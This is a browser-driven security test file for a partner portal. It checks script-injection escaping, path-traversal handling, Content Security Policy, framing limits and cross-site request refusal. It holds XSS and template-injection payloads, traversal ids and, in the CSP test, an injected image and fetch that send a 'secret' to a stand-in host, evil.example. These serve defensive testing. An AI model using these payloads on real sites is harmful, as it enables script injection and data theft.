import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it, onTestFinished } from 'vitest';
import { closeBrowser, hasBrowser, openPage } from './support/browser.ts';
import { startPlatform } from './support/platform.ts';
import { addKey, addWebhook, button } from './support/walk.ts';

afterAll(closeBrowser);

const payloads = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '"><svg onload=window.attacked=1>',
  "'-window.attacked=1-'",
  'javascript:window.attacked=1',
  '{{constructor.constructor("window.attacked=1")()}}',
  ['$', '{window.attacked=1}'].join(''),
];

/** A page of another site. */
const startForeignSite = async (html: string): Promise<string> => {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  // Another host name: another site for cookies.
  return `http://localhost:${(server.address() as AddressInfo).port}`;
};

describe.skipIf(!hasBrowser)('the portal under attack', () => {
  it('shows everything that partners typed as text', async () => {
    const platform = await startPlatform();
    const { kit, answer } = platform;
    const { page } = await openPage(platform.baseUrl);
    await page.goto(platform.portalUrl);
    for (const payload of payloads) {
      await addKey(page, payload);
      await page.getByRole('heading', { name: payload, exact: true }).waitFor();
    }
    const all = payloads.join(' ');
    await addWebhook(page, `${platform.receiverUrl}?q=${encodeURIComponent(payloads[0] ?? '')}`, all);
    await page.getByRole('heading', { name: all, exact: true }).waitFor();
    Object.assign(answer, { status: 500, body: all });
    await kit.events.publish(
      { accountId: 'org_main', objectName: 'RequestPayment', type: 'payed', data: { id: all, amount: 1, note: all } },
      { tx: 'new' },
    );
    await platform.attempts(1);
    await page.clock.runFor(5_000);
    await page.getByText('Failing: ').waitFor();
    await page.locator('tr[data-delivery] button').click();
    await page
      .locator('pre', { hasText: payloads[1] ?? '' })
      .first()
      .waitFor();
    await button(page, 'Activity').click();
    await page.locator('tr[data-delivery]').first().waitFor();
    await button(page, 'Events').click();
    await page.locator('tr[data-event] button').click();
    await page.locator('pre').waitFor();
    await page.goto(`${platform.portalUrl}#/activity?objectId=${encodeURIComponent(all)}`);
    await page.locator('tr[data-delivery]').first().waitFor();
    expect(await page.getByLabel('Object id').inputValue()).toBe(all);
    expect(await page.evaluate('window.attacked')).toBeUndefined();
  });

  it('calls no other path, whatever the hash and the answers of the platform say', async () => {
    const platform = await startPlatform();
    const input = { url: platform.receiverUrl, events: ['payed' as const], label: 'Production' };
    const { endpoint } = (await platform.kit.endpoints.create('org_main', input))._unsafeUnwrap();
    const { page, allow } = await openPage(platform.baseUrl);
    allow(/^alert: It no longer exists/);
    const requested: string[] = [];
    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
    for (const id of ['..%2F..%2Flogout', '..%2F..%2F..%2Flogout', '%2E%2E', 'check']) {
      await page.goto(`${platform.portalUrl}#/webhooks/${id}`);
      await page.reload();
      await page.getByRole('heading', { name: 'No API key yet' }).waitFor();
    }
    // An answer whose id is a path, such as JSON that an attacker has planted on the platform.
    await page.route(`**/api/endpoints/${endpoint.id}`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, json: { ...(await answer.json()), id: '../../../logout?' } });
    });
    await page.goto(`${platform.portalUrl}#/webhooks/${endpoint.id}`);
    await button(page, 'Disable').click();
    await button(page.locator('dialog'), 'Disable').click();
    await page.locator('dialog').getByText('It no longer exists.').waitFor();
    expect(requested.filter((path) => path.includes('logout'))).toEqual([
      '/partner-portal/api/endpoints/..%2F..%2F..%2Flogout%3F/disable',
    ]);
    expect(requested.filter((path) => !path.startsWith('/partner-portal'))).toEqual([]);
  });

  it('opens a link with times that are none, and goes on', async () => {
    const platform = await startPlatform();
    const { page } = await openPage(platform.baseUrl);
    const input = { url: platform.receiverUrl, events: ['payed' as const], label: 'Production' };
    const { endpoint } = (await platform.kit.endpoints.create('org_main', input))._unsafeUnwrap();
    (await platform.kit.endpoints.disable('org_main', endpoint.id))._unsafeUnwrap();
    await platform.publish(1);
    await page.goto(`${platform.portalUrl}#/activity?from=99999999999999999999&to=x`);
    await page.locator('h2', { hasText: 'Activity' }).waitFor();
    expect(await page.getByLabel('From').inputValue()).toBe('');
    await page.getByRole('heading', { name: 'Nothing to show' }).waitFor();
    await button(page.getByRole('navigation'), 'Webhooks').click();
    await button(page, 'Production').click();
    await button(page, 'Enable').click();
    await button(page.locator('dialog'), 'Enable').click();
    await page.getByText('Delivering', { exact: true }).waitFor();
  });

  it('runs no inline script, no eval and no markup of a page', async () => {
    const platform = await startPlatform();
    const { page, allow } = await openPage(platform.baseUrl);
    allow(/Trusted|Content Security Policy/);
    await page.goto(platform.portalUrl);
    await button(page, 'Add an API key').waitFor();
    const violations = await page.evaluate(`new Promise((resolve) => {
      const found = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        found.push(effectiveDirective);
        if (found.length === 4) resolve(found.sort());
      });
      const inline = document.createElement('script');
      try { inline.text = 'window.attacked = 1'; } catch {}
      const image = document.createElement('img');
      image.src = 'https://evil.example/?secret';
      document.body.append(image);
      fetch('https://evil.example/').catch(() => {});
      try { document.body.innerHTML = '<b>markup</b>'; } catch {}
    })`);
    expect(violations).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'require-trusted-types-for']);
    expect(await page.evaluate('window.attacked')).toBeUndefined();
  });

  it('is shown in a frame only where the host allows it', async () => {
    const closed = await startPlatform();
    const site = await startForeignSite(`<iframe src="${closed.portalUrl}"></iframe>`);
    const { page, faults, allow } = await openPage(closed.baseUrl);
    allow(/frame-ancestors 'none'/);
    await page.goto(site);
    await expect.poll(() => faults.join(), { timeout: 60_000, interval: 20 }).toContain('frame-ancestors');

    const framed = await startForeignSite('<title>host</title>');
    const open = await startPlatform({ portal: { frameAncestors: [framed] } });
    const allowed = await openPage(open.baseUrl);
    allowed.allow(/^alert: Your session has ended/);
    await allowed.page.goto(framed);
    await allowed.page.evaluate(`(() => {
      const frame = document.createElement('iframe');
      frame.src = '${open.portalUrl}';
      document.body.append(frame);
    })()`);
    // A frame of another site has no session.
    await allowed.page.frameLocator('iframe').getByRole('heading', { name: 'Your session has ended' }).waitFor();
  });

  it('refuses calls of other sites', async () => {
    const platform = await startPlatform();
    const site = await startForeignSite('<title>evil</title>');
    const { page } = await openPage(platform.baseUrl);
    await page.goto(site);
    const call = (type: string): Promise<unknown> =>
      page.evaluate(`fetch('${platform.portalUrl}/api/api-keys', {
        method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"name":"evil"}',
        headers: { 'content-type': '${type}' },
      }).then(() => 'sent', () => 'not sent')`);
    expect(await call('text/plain')).toBe('sent');
    await call('application/json');
    expect((await platform.kit.clients.list('org_main'))._unsafeUnwrap().items).toEqual([]);
  });
});
